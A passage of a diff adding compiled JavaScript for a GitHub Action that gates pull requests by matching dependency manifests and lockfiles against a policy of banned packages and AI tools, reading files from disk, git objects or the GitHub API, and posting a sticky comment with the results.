+    try {
+        return carrier.toolVersion(version);
+    }
+    catch (e) {
+        return { kind: 'unknown', why: `the version cannot be mapped (${e.message})` };
+    }
+}
+function notPinned(c) {
+    if (c.versionNote)
+        return c.versionNote;
+    return c.spec !== undefined ? `the version is not pinned (${c.spec})` : 'no version is recorded';
+}
+function matchToolRule({ rule, tool, carrier }, c) {
+    const mapping = c.version === null ? null : mappingOf(carrier, c.version);
+    if (rule.versions === undefined) {
+        const toolVersion = mapping?.kind === 'exact'
+            ? mapping.versions[0]
+            : mapping?.kind === 'atLeast'
+                ? `>=${mapping.version}`
+                : null;
+        return { rule, tool, toolVersion };
+    }
+    if (mapping === null)
+        return { rule, tool, toolVersion: null, unknown: notPinned(c) };
+    switch (mapping.kind) {
+        case 'unknown':
+            return { rule, tool, toolVersion: null, unknown: mapping.why };
+        case 'exact': {
+            const hit = mapping.versions.find((v) => versionSatisfies(tool.versionScheme, v, rule.versions));
+            return hit === undefined ? null : { rule, tool, toolVersion: hit };
+        }
+        case 'atLeast': {
+            if (tool.versionScheme !== 'semver')
+                return { rule, tool, toolVersion: null, unknown: mapping.why };
+            const where = lowerBoundIn(mapping.version, rule.versions);
+            if (where === 'out')
+                return null;
+            if (where === 'in')
+                return { rule, tool, toolVersion: `>=${mapping.version}` };
+            return { rule, tool, toolVersion: `>=${mapping.version}`, unknown: mapping.why };
+        }
+    }
+}
+function matchPackageRule(rule, c) {
+    if (rule.ecosystem !== undefined && rule.ecosystem !== c.ecosystem)
+        return null;
+    if (rule.package !== undefined && !nameMatches(c.ecosystem, rule.package, c.name))
+        return null;
+    if (rule.versions === undefined)
+        return { rule };
+    if (c.version === null)
+        return { rule, unknown: notPinned(c) };
+    return versionSatisfies(syntaxOf(c.ecosystem), c.version, rule.versions) ? { rule } : null;
+}
+function findingFor(c, match, unknownSetting) {
+    const { rule } = match;
+    const action = match.unknown !== undefined ? (unknownSetting === 'ignore' ? 'warn' : unknownSetting) : rule.action;
+    return {
+        ruleId: rule.id,
+        action,
+        message: messageFor(c, match),
+        component: {
+            ecosystem: c.ecosystem,
+            name: c.name,
+            version: c.version,
+            purl: c.purl,
+            ...(c.spec !== undefined ? { spec: c.spec } : {}),
+            ...(c.alias !== undefined ? { alias: c.alias } : {}),
+        },
+        ...(match.tool ? { tool: match.tool.id, toolVersion: match.toolVersion ?? null } : {}),
+        location: c.location,
+        source: c.source,
+        ...(rule.reason ? { reason: rule.reason } : {}),
+        ...(rule.link ? { link: rule.link } : {}),
+        ...(match.unknown !== undefined ? { unknownVersion: true, unknownReason: match.unknown } : {}),
+    };
+}
+function messageFor(c, match) {
+    const { rule, tool } = match;
+    const version = c.version !== null ? ` ${c.version}` : c.spec !== undefined ? ` (${c.spec})` : '';
+    const alias = c.alias !== undefined ? ` (installed as ${c.alias})` : '';
+    const what = `${c.name}${version}${alias}`;
+    const carries = tool && match.toolVersion && match.toolVersion !== c.version
+        ? ` (${tool.name} ${match.toolVersion})`
+        : tool && tool.id !== c.name && !match.toolVersion && match.unknown === undefined
+            ? ` (${tool.name})`
+            : '';
+    if (match.unknown !== undefined) {
+        const why = rule.reason ? ` (${rule.reason})` : '';
+        return `${what}${carries} may be banned by rule ${rule.id}${why}, but its ${tool ? `${tool.name} ` : ''}version cannot be known: ${match.unknown}`;
+    }
+    const verb = rule.action === 'fail' ? 'is banned' : 'is flagged';
+    return `${what}${carries} ${verb}${rule.reason ? `: ${rule.reason}` : ` by rule ${rule.id}`}`;
+}
+const pathMatchers = new Map();
+function pathMatches(glob, file) {
+    let m = pathMatchers.get(glob);
+    if (!m) {
+        m = picomatch_default()(glob, { dot: true });
+        pathMatchers.set(glob, m);
+    }
+    return m(file);
+}
+function exceptionApplies(ex, match, c) {
+    if (ex.rule !== match.rule.id)
+        return false;
+    if (ex.package !== undefined && !nameMatches(c.ecosystem, ex.package, c.name))
+        return false;
+    if (ex.versions !== undefined) {
+        // An exception limited to versions cannot vouch for a version nobody knows.
+        if (match.unknown !== undefined)
+            return false;
+        if (match.tool) {
+            const tv = match.toolVersion;
+            if (tv === null || tv === undefined)
+                return false;
+            if (tv.startsWith('>=')) {
+                if (lowerBoundIn(tv.slice(2), ex.versions) !== 'in')
+                    return false;
+            }
+            else if (!versionSatisfies(match.tool.versionScheme, tv, ex.versions))
+                return false;
+        }
+        else {
+            if (c.version === null || !versionSatisfies(syntaxOf(c.ecosystem), c.version, ex.versions))
+                return false;
+        }
+    }
+    if (ex.paths && ex.paths.length > 0 && !ex.paths.some((g) => pathMatches(g, c.location.file)))
+        return false;
+    return true;
+}
+/** An exception applies through the whole of its expiry day (UTC). */
+function isExpired(ex, now) {
+    const end = Date.parse(`${ex.expires}T23:59:59.999Z`);
+    return Number.isNaN(end) || now.getTime() > end;
+}
+
+;// CONCATENATED MODULE: ./src/reconcile.ts
+
+
+
+/** Manifest formats whose dependency specs a lockfile beside (or above) them pins. */
+const MANIFESTS = new Set(['package.json', 'pyproject.toml']);
+/** Lockfile formats, by ecosystem, that pin what a manifest in their folder subtree installs. */
+const LOCKFILES = {
+    'package-lock.json': 'npm',
+    'npm-shrinkwrap.json': 'npm',
+    'yarn.lock': 'npm',
+    'pnpm-lock.yaml': 'npm',
+    'bun.lock': 'npm',
+    'bun.lockb': 'npm',
+    'poetry.lock': 'pypi',
+    'uv.lock': 'pypi',
+    'pdm.lock': 'pypi',
+    'Pipfile.lock': 'pypi',
+    'pylock.toml': 'pypi',
+};
+function reconcile_dirOf(file) {
+    const i = file.lastIndexOf('/');
+    return i < 0 ? '' : file.slice(0, i);
+}
+function isWithin(dir, ancestor) {
+    return ancestor === '' || dir === ancestor || dir.startsWith(ancestor + '/');
+}
+/**
+ * Drops manifest entries (package.json, pyproject.toml) that a lockfile governing the same
+ * folder already pins to a version the manifest accepts: the lockfile's concrete version is what
+ * gets installed, and it is judged at the lockfile's line. A manifest entry the lockfile does not
+ * satisfy (a stale lockfile, a dependency added without re-locking) is kept, so that it cannot
+ * slip past the gate: it is judged by its own pin, or resolved from the registry.
+ */
+function reconcileManifests(components) {
+    // Locked versions per lockfile folder, ecosystem and normalised name.
+    const locked = new Map();
+    for (const c of components) {
+        if (LOCKFILES[c.source] !== c.ecosystem || c.version === null)
+            continue;
+        const key = `${reconcile_dirOf(c.location.file)}\u0000${c.ecosystem}`;
+        let byName = locked.get(key);
+        if (!byName)
+            locked.set(key, (byName = new Map()));
+        const name = normalizeName(c.ecosystem, c.name);
+        const list = byName.get(name);
+        if (list)
+            list.push(c.version);
+        else
+            byName.set(name, [c.version]);
+    }
+    if (locked.size === 0)
+        return [...components];
+    const lockDirs = [...locked.keys()].map((k) => {
+        const [dir, eco] = k.split('\u0000');
+        return { dir, eco, byName: locked.get(k) };
+    });
+    return components.filter((c) => {
+        if (!MANIFESTS.has(c.source) || c.sourceKind !== 'registry')
+            return true;
+        const dir = reconcile_dirOf(c.location.file);
+        const name = normalizeName(c.ecosystem, c.name);
+        for (const l of lockDirs) {
+            if (l.eco !== c.ecosystem || !isWithin(dir, l.dir))
+                continue;
+            const versions = l.byName.get(name);
+            if (versions && versions.some((v) => accepts(c, v)))
+                return false;
+        }
+        return true;
+    });
+}
+/** Whether a manifest entry accepts a locked version. */
+function accepts(manifest, lockedVersion) {
+    if (manifest.version !== null)
+        return manifest.version === lockedVersion;
+    const spec = (manifest.spec ?? '').trim();
+    if (manifest.ecosystem === 'pypi') {
+        if (spec === '' || spec === '*')
+            return true;
+        try {
+            return satisfies(lockedVersion, spec);
+        }
+        catch {
+            return false;
+        }
+    }
+    const range = spec.replace(/^npm:(?:@[^/@]+\/)?[^@]+@/, '');
+    if (semver_default().validRange(range) !== null) {
+        return semver_default().satisfies(lockedVersion, range, { includePrerelease: true, loose: true });
+    }
+    // A dist-tag (`latest`) or anything else: the lockfile's entry is what installs.
+    return /^[a-z][a-z0-9._-]*$/i.test(range) || range === '';
+}
+
+;// CONCATENATED MODULE: ./src/scan.ts
+
+
+
+
+
+
+
+/** Audit mode: every component of one tree judged against the policy. */
+async function audit(source, options) {
+    const inv = await inventory(source, { limits: options.limits ?? defaultLimits });
+    const judged = reconcileManifests(inv.components);
+    const components = options.resolve ? await options.resolve(judged, inv.errors) : judged;
+    const { findings, notices } = evaluate(components, options.policy, {
+        catalog: catalog,
+        ...(options.now ? { now: options.now } : {}),
+    });
+    return buildReport({
+        mode: 'audit',
+        findings,
+        errors: inv.errors,
+        notices,
+        filesScanned: inv.filesScanned,
+        components: components.length,
+        policySources: options.policy.sources,
+    });
+}
+/**
+ * Diff mode: the findings at head, each `introduced` or `unchanged` against base, plus the base
+ * findings that are gone (`removed`). One policy (the base's) judges both sides.
+ */
+async function diffScan(base, head, options) {
+    const limits = options.limits ?? defaultLimits;
+    const d = await diffInventory(base, head, {
+        limits,
+        ...(options.changed ? { changed: options.changed } : {}),
+        ...(options.detectors ? { detectors: options.detectors } : {}),
+    });
+    let headComponents = d.head.components;
+    let baseComponents = d.baseComponents;
+    if (options.resolve) {
+        headComponents = await options.resolve(headComponents, d.head.errors);
+        baseComponents = await options.resolve(baseComponents, d.baseErrors);
+    }
+    const evalOptions = { catalog: catalog, ...(options.now ? { now: options.now } : {}) };
+    const atHead = evaluate(headComponents, options.policy, evalOptions);
+    const atBase = evaluate(baseComponents, options.policy, evalOptions);
+    return buildReport({
+        mode: 'diff',
+        findings: classifyFindings(atBase.findings, atHead.findings),
+        errors: d.headErrors,
+        notices: [...(options.notices ?? []), ...atHead.notices],
+        diff: { base: base.description, head: head.description, baseErrors: d.baseErrors },
+        filesScanned: d.head.filesScanned,
+        components: headComponents.length,
+        policySources: options.policy.sources,
+    });
+}
+function inventoryReport(inv) {
+    return {
+        schemaVersion: 1,
+        components: inv.components,
+        errors: inv.errors,
+        summary: { filesScanned: inv.filesScanned, components: inv.components.length },
+    };
+}
+
+// EXTERNAL MODULE: external "node:child_process"
+var external_node_child_process_ = __nccwpck_require__(31421);
+// EXTERNAL MODULE: external "node:util"
+var external_node_util_ = __nccwpck_require__(57975);
+;// CONCATENATED MODULE: ./src/sources/directory.ts
+
+
+
+
+
+const execFileAsync = (0,external_node_util_.promisify)(external_node_child_process_.execFile);
+/**
+ * The files of a directory on disk. In a git work tree: the files git tracks plus untracked ones
+ * it does not ignore; otherwise every file. `node_modules/` and `.git/` are always skipped, and a
+ * symlink is never followed out of the root.
+ */
+class DirectorySource {
+    root;
+    maxFiles;
+    description;
+    rootReal;
+    constructor(root, maxFiles = Number.POSITIVE_INFINITY) {
+        this.root = root;
+        this.maxFiles = maxFiles;
+        this.description = root;
+    }
+    async list() {
+        const fromGit = await this.gitFiles();
+        const files = fromGit ?? (await this.walk());
+        const out = [...new Set(files.filter((f) => !isSkippedPath(f)))].sort();
+        if (out.length > this.maxFiles) {
+            throw new SourceReadError(`${out.length} files under ${this.root} exceed the limit of ${this.maxFiles} files`);
+        }
+        return out;
+    }
+    async gitFiles() {
+        try {
+            const { stdout: top } = await execFileAsync('git', ['-C', this.root, 'rev-parse', '--show-toplevel'], {
+                encoding: 'utf8',
+            });
+            const toplevel = top.trim();
+            if (!toplevel)
+                return null;
+            const { stdout } = await execFileAsync('git', [
+                '-C',
+                this.root,
+                '-c',
+                'core.quotepath=off',
+                'ls-files',
+                '-z',
+                '--cached',
+                '--others',
+                '--exclude-standard',
+                '--',
+                '.',
+            ], { encoding: 'utf8', maxBuffer: 1024 * 1024 * 1024 });
+            // ls-files with a pathspec of "." prints paths relative to the root given by -C.
+            return stdout.split('\0').filter((p) => p.length > 0);
+        }
+        catch {
+            return null;
+        }
+    }
+    async walk() {
+        const out = [];
+        const stack = [''];
+        while (stack.length > 0) {
+            const rel = stack.pop();
+            let entries;
+            try {
+                entries = await (0,promises_.readdir)((0,external_node_path_.join)(this.root, rel), { withFileTypes: true });
+            }
+            catch {
+                continue;
+            }
+            for (const entry of entries) {
+                const childRel = rel ? `${rel}/${entry.name}` : entry.name;
+                if (entry.isDirectory()) {
+                    if (entry.name === 'node_modules' || entry.name === '.git')
+                        continue;
+                    stack.push(childRel);
+                }
+                else {
+                    // Files, symlinks (never descended into as directories: the target is walked where it
+                    // lives inside the root, and a link out of the root is reported when read) and others.
+                    out.push(childRel);
+                }
+                if (out.length > this.maxFiles)
+                    return out;
+            }
+        }
+        return out;
+    }
+    async read(path, maxBytes) {
+        const rel = normalizeRelative(path);
+        if (rel === null)
+            throw new SourceReadError('path is outside the scanned directory');
+        const full = (0,external_node_path_.join)(this.root, rel);
+        let info;
+        try {
+            info = await (0,promises_.lstat)(full);
+        }
+        catch {
+            return null;
+        }
+        let target = full;
+        if (info.isSymbolicLink()) {
+            let real;
+            try {
+                real = await (0,promises_.realpath)(full);
+            }
+            catch (e) {
+                const code = e.code;
+                throw new SourceReadError(code === 'ELOOP' ? 'symlink loop' : 'symlink to a file that does not exist');
+            }
+            this.rootReal ??= await (0,promises_.realpath)(this.root);
+            const within = (0,external_node_path_.relative)(this.rootReal, real);
+            if (within === '' || within.startsWith('..' + external_node_path_.sep) || within === '..' || within.startsWith('/')) {
+                throw new SourceReadError('symlink points outside the scanned directory; not followed');
+            }
+            target = real;
+            info = await (0,promises_.stat)(real);
+        }
+        if (!info.isFile())
+            throw new SourceReadError('not a regular file');
+        if (info.size > maxBytes) {
+            throw new SourceReadError(`file is ${info.size} bytes, over the limit of ${maxBytes} bytes`);
+        }
+        const handle = await (0,promises_.open)(target, 'r');
+        try {
+            // Read at most maxBytes + 1 so a file that grows while being read is still caught.
+            const buf = Buffer.allocUnsafe(Math.min(info.size, maxBytes) + 1);
+            let total = 0;
+            for (;;) {
+                const { bytesRead } = await handle.read(buf, total, buf.length - total, total);
+                if (bytesRead === 0)
+                    break;
+                total += bytesRead;
+                if (total > maxBytes)
+                    throw new SourceReadError(`file is over the limit of ${maxBytes} bytes`);
+                if (total === buf.length)
+                    break;
+            }
+            return new Uint8Array(buf.buffer, buf.byteOffset, total);
+        }
+        finally {
+            await handle.close();
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./src/sources/git.ts
+
+
+
+const SYMLINK_MODE = '120000';
+const MAX_SYMLINK_HOPS = 40;
+const git_execFileAsync = (0,external_node_util_.promisify)(external_node_child_process_.execFile);
+/**
+ * Finds a path in a tree listing, following symlinks within the tree. A link out of the tree, to
+ * nothing, or in a loop is a `SourceReadError`; a path not in the tree is null.
+ */
+async function resolveInTree(tree, path, readLink) {
+    let rel = normalizeRelative(path);
+    if (rel === null)
+        throw new SourceReadError('path is outside the scanned directory');
+    for (let hop = 0; hop <= MAX_SYMLINK_HOPS; hop++) {
+        const entry = tree.get(rel);
+        if (!entry)
+            return null;
+        if (entry.mode !== SYMLINK_MODE)
+            return entry;
+        const target = new TextDecoder().decode(await readLink(entry));
+        if (target.startsWith('/'))
+            throw new SourceReadError('symlink points outside the scanned directory; not followed');
+        const dir = rel.includes('/') ? rel.slice(0, rel.lastIndexOf('/')) : '';
+        const next = normalizeRelative(dir ? `${dir}/${target}` : target);
+        if (next === null || next === '') {
+            throw new SourceReadError('symlink points outside the scanned directory; not followed');
+        }
+        // A link to a folder or to nothing is not a regular file of this tree.
+        if (!tree.has(next))
+            throw new SourceReadError('symlink to a file that does not exist');
+        rel = next;
+    }
+    throw new SourceReadError('symlink loop');
+}
+/** Runs git without a shell; arguments are passed as they are. */
+async function runGit(cwd, args, maxBuffer = 1024 * 1024 * 1024) {
+    const { stdout } = await git_execFileAsync('git', args, {
+        cwd,
+        encoding: 'utf8',
+        maxBuffer,
+        env: { ...process.env, GIT_TERMINAL_PROMPT: '0' },
+    });
+    return stdout;
+}
+/**
+ * The files of one git commit, read from the object database: `git ls-tree` lists them and one
+ * long-lived `git cat-file --batch` reads blobs. Nothing is checked out, nothing in the tree is
+ * run. `prefix` scans a subfolder of the repository as the root.
+ */
+class GitSource {
+    repoDir;
+    commit;
+    prefix;
+    maxFiles;
+    description;
+    entries;
+    reader;
+    constructor(repoDir, commit, prefix = '', maxFiles = Number.POSITIVE_INFINITY) {
+        this.repoDir = repoDir;
+        this.commit = commit;
+        this.prefix = prefix;
+        this.maxFiles = maxFiles;
+        this.description = `git:${commit}${prefix ? ':' + prefix : ''}`;
+    }
+    /** Every blob of the tree (symlinks included) by path; submodules are not files and are left out. */
+    tree() {
+        this.entries ??= this.loadTree();
+        return this.entries;
+    }
+    async loadTree() {
+        const treeish = this.prefix ? `${this.commit}:${this.prefix}` : `${this.commit}^{tree}`;
+        let out;
+        try {
+            out = await runGit(this.repoDir, [
+                '-c',
+                'core.quotepath=off',
+                'ls-tree',
+                '-r',
+                '-z',
+                '-l',
+                '--full-tree',
+                treeish,
+                '--',
+            ]);
+        }
+        catch (e) {
+            throw new SourceReadError(`cannot list the tree of ${this.commit}: ${firstLine(e)}`);
+        }
+        const map = new Map();
+        for (const record of out.split('\0')) {
+            if (record === '')
+                continue;
+            const tab = record.indexOf('\t');
+            const [mode, type, oid, size] = record.slice(0, tab).split(/ +/);
+            if (type !== 'blob')
+                continue;
+            map.set(record.slice(tab + 1), { mode, oid, size: Number(size) });
+        }
+        if (map.size > this.maxFiles) {
+            throw new SourceReadError(`${map.size} files in ${this.description} exceed the limit of ${this.maxFiles} files`);
+        }
+        return map;
+    }
+    async list() {
+        const tree = await this.tree();
+        return [...tree.keys()].filter((p) => !isSkippedPath(p)).sort();
+    }
+    /** The blob id of a file (after following symlinks), or null when it does not exist. */
+    async blobId(path) {
+        let entry;
+        try {
+            entry = await this.resolve(path);
+        }
+        catch (e) {
+            // A link that cannot be followed is identified by the link itself.
+            const link = (await this.tree()).get(normalizeRelative(path) ?? '');
+            if (link)
+                return `link:${link.oid}`;
+            throw e;
+        }
+        return entry ? `${entry.mode === '100755' ? 'x' : ''}${entry.oid}` : null;
+    }
+    async resolve(path) {
+        return resolveInTree(await this.tree(), path, (e) => this.blobs().read(e.oid, 4096));
+    }
+    async read(path, maxBytes) {
+        const entry = await this.resolve(path);
+        if (!entry)
+            return null;
+        if (entry.mode === '160000')
+            throw new SourceReadError('not a regular file');
+        if (entry.size > maxBytes) {
+            throw new SourceReadError(`file is ${entry.size} bytes, over the limit of ${maxBytes} bytes`);
+        }
+        return this.blobs().read(entry.oid, maxBytes);
+    }
+    blobs() {
+        this.reader ??= new BlobReader(this.repoDir);
+        return this.reader;
+    }
+    /** Ends the `git cat-file` process. */
+    close() {
+        this.reader?.close();
+        this.reader = undefined;
+    }
+}
+/** One `git cat-file --batch` process answering blob reads in order. */
+class BlobReader {
+    repoDir;
+    child;
+    queue = [];
+    buffer = Buffer.alloc(0);
+    failed;
+    constructor(repoDir) {
+        this.repoDir = repoDir;
+    }
+    read(oid, maxBytes) {
+        if (!/^[0-9a-f]{40}([0-9a-f]{24})?$/.test(oid))
+            return Promise.reject(new SourceReadError(`bad object id ${oid}`));
+        if (this.failed)
+            return Promise.reject(this.failed);
+        return new Promise((resolve, reject) => {
+            this.queue.push({ oid, maxBytes, resolve, reject });
+            this.process().stdin.write(`${oid}\n`);
+            this.hold(true);
+        });
+    }
+    process() {
+        if (this.child)
+            return this.child;
+        const child = (0,external_node_child_process_.spawn)('git', ['cat-file', '--batch'], {
+            cwd: this.repoDir,
+            stdio: ['pipe', 'pipe', 'pipe'],
+            env: { ...process.env, GIT_TERMINAL_PROMPT: '0' },
+        });
+        let stderr = '';
+        child.stderr.on('data', (d) => {
+            stderr += d.toString('utf8');
+        });
+        child.stdout.on('data', (d) => {
+            this.buffer = this.buffer.length === 0 ? d : Buffer.concat([this.buffer, d]);
+            this.drain();
+        });
+        const fail = (e) => {
+            this.failed = new SourceReadError(`git cat-file failed: ${e.message}${stderr ? ': ' + stderr.trim() : ''}`);
+            for (const p of this.queue.splice(0))
+                p.reject(this.failed);
+        };
+        child.on('error', fail);
+        child.on('exit', (code) => {
+            if (this.queue.length > 0)
+                fail(new Error(`exited with code ${code}`));
+            this.child = undefined;
+        });
+        child.stdin.on('error', () => { });
+        this.child = child;
+        this.hold(false);
+        this.child = child;
+        return child;
+    }
+    /**
+     * Keeps the process alive only while reads are pending, so an idle reader never holds the
+     * program open.
+     */
+    hold(busy) {
+        const c = this.child;
+        if (!c)
+            return;
+        const streams = [c.stdout, c.stderr, c.stdin];
+        if (busy) {
+            c.ref();
+            for (const s of streams)
+                s.ref?.();
+        }
+        else {
+            c.unref();
+            for (const s of streams)
+                s.unref?.();
+        }
+    }
+    drain() {
+        for (;;) {
+            const head = this.queue[0];
+            if (!head) {
+                this.hold(false);
+                return;
+            }
+            const nl = this.buffer.indexOf(0x0a);
+            if (nl < 0)
+                return;
+            const header = this.buffer.subarray(0, nl).toString('utf8');
+            if (header.endsWith(' missing')) {
+                this.buffer = this.buffer.subarray(nl + 1);
+                this.queue.shift();
+                head.reject(new SourceReadError(`object ${head.oid} is missing from the repository`));
+                continue;
+            }
+            const [, type, sizeText] = header.split(' ');
+            const size = Number(sizeText);
+            if (this.buffer.length < nl + 1 + size + 1)
+                return;
+            const content = Buffer.from(this.buffer.subarray(nl + 1, nl + 1 + size));
+            this.buffer = this.buffer.subarray(nl + 1 + size + 1);
+            this.queue.shift();
+            if (type !== 'blob')
+                head.reject(new SourceReadError('not a regular file'));
+            else if (size > head.maxBytes) {
+                head.reject(new SourceReadError(`file is ${size} bytes, over the limit of ${head.maxBytes} bytes`));
+            }
+            else
+                head.resolve(new Uint8Array(content.buffer, content.byteOffset, content.length));
+        }
+    }
+    close() {
+        this.child?.stdin.end();
+        this.child = undefined;
+    }
+}
+function firstLine(e) {
+    const err = e;
+    return (err.stderr || err.message || String(e)).trim().split('\n')[0] ?? '';
+}
+/** Whether a commit's objects are in the local repository. */
+async function hasCommit(repoDir, sha) {
+    try {
+        await runGit(repoDir, ['cat-file', '-e', `${sha}^{commit}`]);
+        return true;
+    }
+    catch {
+        return false;
+    }
+}
+/** Resolves a ref (branch, tag, SHA, `HEAD~1`) to a commit id. */
+async function revParse(repoDir, ref) {
+    if (ref.startsWith('-'))
+        throw new Error(`"${ref}" is not a git revision`);
+    try {
+        return (await runGit(repoDir, ['rev-parse', '--verify', '--quiet', '--end-of-options', `${ref}^{commit}`])).trim();
+    }
+    catch {
+        throw new Error(`"${ref}" is not a commit in ${repoDir}`);
+    }
+}
+/** The repository's top folder and the scanned folder's path inside it (`''` at the top). */
+async function workTreeOf(dir) {
+    try {
+        const out = await runGit(dir, ['rev-parse', '--show-toplevel', '--show-prefix']);
+        const [top, prefix] = out.split('\n');
+        if (!top)
+            return null;
+        return { top, prefix: (prefix ?? '').replace(/\/$/, '') };
+    }
+    catch {
+        return null;
+    }
+}
+/** Fetches one commit into a shallow clone, with the checkout's configured credentials. */
+async function fetchCommit(repoDir, sha) {
+    if (!/^[0-9a-f]{40}([0-9a-f]{24})?$/i.test(sha))
+        throw new Error(`"${sha}" is not a commit id`);
+    await runGit(repoDir, ['fetch', '--no-tags', '--no-recurse-submodules', '--depth=1', 'origin', sha]);
+}
+/**
+ * The paths under `prefix` (relative to it) where the work tree differs from a commit: tracked
+ * files changed, added or deleted (staged or not; no rename pairing, so both sides count), and
+ * untracked files git does not ignore. Git compares contents, so links and files too large to read
+ * are compared exactly.
+ */
+async function workTreeChanges(top, commit, prefix = '') {
+    if (!/^[0-9a-f]{40}([0-9a-f]{24})?$/i.test(commit))
+        throw new Error(`"${commit}" is not a commit id`);
+    const scope = prefix ? prefix : '.';
+    const [tracked, untracked] = await Promise.all([
+        runGit(top, [
+            '-c',
+            'core.quotepath=off',
+            'diff',
+            '--name-only',
+            '-z',
+            '--no-renames',
+            '--no-ext-diff',
+            '--no-textconv',
+            commit,
+            '--',
+            scope,
+        ]),
+        runGit(top, [
+            '-c',
+            'core.quotepath=off',
+            'ls-files',
+            '-z',
+            '--others',
+            '--exclude-standard',
+            '--full-name',
+            '--',
+            scope,
+        ]),
+    ]);
+    const out = new Set();
+    const base = prefix ? `${prefix}/` : '';
+    for (const p of [...tracked.split('\0'), ...untracked.split('\0')]) {
+        if (p === '' || !p.startsWith(base))
+            continue;
+        out.add(p.slice(base.length));
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/sources/github-api.ts
+
+
+
+/**
+ * The files of `owner/repo` at `commit`, read with the git trees and blobs endpoints. Used when the
+ * workspace has no git objects for a commit (e.g. `pull_request_target` without a checkout of the
+ * head): only blobs are read, nothing is checked out or run. `prefix` scans a subfolder as root.
+ */
+class GitHubApiSource {
+    client;
+    owner;
+    repo;
+    commit;
+    prefix;
+    maxFiles;
+    description;
+    entries;
+    blobCache = new Map();
+    constructor(client, owner, repo, commit, prefix = '', maxFiles = Number.POSITIVE_INFINITY) {
+        this.client = client;
+        this.owner = owner;
+        this.repo = repo;
+        this.commit = commit;
+        this.prefix = prefix;
+        this.maxFiles = maxFiles;
+        this.description = `github:${owner}/${repo}@${commit}${prefix ? ':' + prefix : ''}`;
+    }
+    tree() {
+        this.entries ??= (async () => {
+            let list;
+            try {
+                list = await readTree(this.client, this.owner, this.repo, this.commit);
+            }
+            catch (e) {
+                throw new SourceReadError(`cannot list ${this.description}: ${e.message}`);
+            }
+            const map = new Map();
+            const base = this.prefix ? this.prefix.replace(/\/+$/, '') + '/' : '';
+            for (const e of list) {
+                if (e.type !== 'blob' || !e.path.startsWith(base))
+                    continue;
+                map.set(e.path.slice(base.length), e);
+            }
+            if (map.size > this.maxFiles) {
+                throw new SourceReadError(`${map.size} files in ${this.description} exceed the limit of ${this.maxFiles} files`);
+            }
+            return map;
+        })();
+        return this.entries;
+    }
+    async list() {
+        return [...(await this.tree()).keys()].filter((p) => !isSkippedPath(p)).sort();
+    }
+    blob(sha) {
+        let p = this.blobCache.get(sha);
+        if (!p) {
+            p = readBlob(this.client, this.owner, this.repo, sha).catch((e) => {
+                this.blobCache.delete(sha);
+                throw new SourceReadError(`cannot be read from the GitHub API: ${e.message}`);
+            });
+            this.blobCache.set(sha, p);
+        }
+        return p;
+    }
+    async resolve(path) {
+        return resolveInTree(await this.tree(), path, (e) => this.blob(e.sha));
+    }
+    async blobId(path) {
+        let e;
+        try {
+            e = await this.resolve(path);
+        }
+        catch (err) {
+            // A link that cannot be followed is identified by the link itself.
+            const link = (await this.tree()).get(normalizeRelative(path) ?? '');
+            if (link)
+                return `link:${link.sha}`;
+            throw err;
+        }
+        return e ? `${e.mode === '100755' ? 'x' : ''}${e.sha}` : null;
+    }
+    async read(path, maxBytes) {
+        const e = await this.resolve(path);
+        if (!e)
+            return null;
+        if (e.size !== undefined && e.size > maxBytes) {
+            throw new SourceReadError(`file is ${e.size} bytes, over the limit of ${maxBytes} bytes`);
+        }
+        const bytes = await this.blob(e.sha);
+        if (bytes.length > maxBytes)
+            throw new SourceReadError(`file is ${bytes.length} bytes, over the limit of ${maxBytes} bytes`);
+        return bytes;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/reporters/comment.ts
+
+/** GitHub rejects comment bodies over 65,536 characters. */
+const COMMENT_MAX_CHARS = 65536;
+/**
+ * The hidden marker that finds this job's comment again. Workflow, job and working directory are
+ * part of it so matrix jobs and several gates in one repository keep separate comments.
+ */
+function commentMarker(workflow, job, workingDirectory) {
+    const clean = (s) => s.replace(/--+>?/g, '-').replace(/[\r\n]/g, ' ');
+    return `<!-- ai-tooling-gate:sticky workflow=${JSON.stringify(clean(workflow))} job=${JSON.stringify(clean(job))} dir=${JSON.stringify(clean(workingDirectory))} -->`;
+}
+/** The comment body for a report, within GitHub's limit. */
+function renderComment(report, failed, wasFailing, ctx) {
+    const notes = [];
+    if (!failed && wasFailing) {
+        notes.push('**Resolved:** the problems this gate reported earlier on this pull request are fixed.');
+    }
+    if (ctx.runLink)
+        notes.push(ctx.runLink);
+    const marker = `${ctx.marker}\n<!-- ai-tooling-gate:state ${failed ? 'failing' : 'passing'} -->\n`;
+    // Characters ≤ bytes, so a byte budget keeps the body under the character limit.
+    const body = renderMarkdown(report, {
+        failOn: ctx.failOn,
+        ...(ctx.link ? { link: ctx.link } : {}),
+        maxBytes: COMMENT_MAX_CHARS - Buffer.byteLength(marker) - 64,
+        headingLevel: 3,
+        extraNotes: notes,
+    });
+    return marker + body;
+}
+/** Whether an existing comment body says the gate was failing. */
+function commentWasFailing(body) {
+    return body.includes('<!-- ai-tooling-gate:state failing -->');
+}
+/** What to do with the sticky comment. */
+function commentAction(mode, failed, existing) {
+    if (mode === 'never')
+        return 'none';
+    if (existing)
+        return 'update'; // a failing PR that is fixed gets its comment edited to say so
+    if (failed || mode === 'always')
+        return 'create';
+    return 'none';
+}
+
+;// CONCATENATED MODULE: ./src/action/comment.ts
+
+
+
+/**
+ * Creates or updates this job's sticky comment. A token that may not comment (fork pull requests,
+ * read-only tokens) or any API failure is a warning: the comment never decides the gate.
+ */
+async function postComment(client, req) {
+    const marker = commentMarker(req.workflow, req.job, req.workingDirectory);
+    try {
+        const comments = await client.paginate(client.rest.issues.listComments, {
+            owner: req.owner,
+            repo: req.repo,
+            issue_number: req.issue,
+            per_page: 100,
+        });
+        // Ours: a body that starts with the marker and the state line, as renderComment writes it (a
+        // person quoting the marker mid-comment is not matched); a bot's comment is preferred.
+        const ours = comments.filter((c) => (c.body ?? '').startsWith(`${marker}\n<!-- ai-tooling-gate:state `));
+        const existing = ours.find((c) => c.user?.type === 'Bot') ?? ours[0];
+        const action = commentAction(req.mode, req.failed, existing !== undefined);
+        if (action === 'none')
+            return;
+        const body = renderComment(req.report, req.failed, existing ? commentWasFailing(existing.body ?? '') : false, {
+            failOn: req.failOn,
+            marker,
+            ...(req.link ? { link: req.link } : {}),
+            ...(req.runUrl ? { runLink: `[Workflow run](${req.runUrl})` } : {}),
+        });
+        if (existing) {
+            if (existing.body === body)
+                return;
+            await client.rest.issues.updateComment({
+                owner: req.owner,
